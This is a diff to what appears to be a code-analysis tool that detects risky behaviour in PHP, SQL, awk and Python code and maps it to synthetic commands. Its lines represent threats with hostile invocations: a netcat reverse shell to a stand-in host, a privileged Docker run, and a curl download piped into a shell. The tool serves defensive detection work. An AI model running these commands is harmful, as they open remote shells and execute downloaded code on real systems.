@@ -29,7 +29,10 @@ const interpreterFunctions = { evaluate: evaluateExpression, call: callValue, in
  */
 export function readCode(language: Exclude<CodeLanguage, 'shell'>, code: string, context: CodeContext): ParsedCommand {
   const collector = new InvocationCollector(language, context, code.slice(0, MAX_CODE));
-  const plain = language === 'php' ? code.replace(/<\?(?:php\b|=)/g, ';').replace(/(?<=\w)\\(?=[A-Z])/g, '::') : code;
+  const plain =
+    language === 'php'
+      ? code.replace(/(?<=^\s*|^#!.*\n\s*|\?>\s*)<\?(?:php\b|=)/g, ';').replace(/(?<=\w)\\(?=[A-Z])/g, '::')
+      : code;
   if (code.length > MAX_CODE) collector.fail('too-long', `the ${language} code is longer than ${MAX_CODE} characters`);
   else if (language === 'sql') readSql(code, collector);
   else if (language === 'awk') readAwk(code, collector);
@@ -50,6 +53,8 @@ function interpretCode(language: LanguageSpec, code: string, collector: Invocati
   if (collector.signs.has('remote-shell')) collector.addInvocation('sh', [], collector.createInput(create.received()));
   if (collector.signs.has('web-shell')) collector.addInvocation('nc', ['-e', '/bin/sh', 'shell.example.net', '443']);
   if (collector.signs.has('privileged-container')) collector.addInvocation('docker', ['run', '--privileged', 'image']);
+  if (collector.signs.has('deletes-at-service')) collector.addInvocation('cloud-sdk', ['delete']);
+  if (collector.signs.has('sends-to-all')) collector.addInvocation('send-to-all', []);
   const download = collector.createInvocation('curl', ['https://example.com']);
   if (collector.signs.has('remote-code'))
     collector.addInvocation('sh', [], collector.createInput(create.content([download])));
@@ -83,7 +88,7 @@ function interpretCode(language: LanguageSpec, code: string, collector: Invocati
     const callee = { kind: 'function' as const, definition };
     const value = !isCalled && (isMentioned || isHandler) ? state.call(callee) : undefined;
     // Unpickling calls what this method returns.
-    if (name === '__reduce__' && value?.kind === 'list' && value.items[1])
+    if (name === '__reduce__' && !collector.signs.has('shows-pickle') && value?.kind === 'list' && value.items[1])
       state.call(value.items[0]!, ...get.elements(value.items[1]));
   }
 }
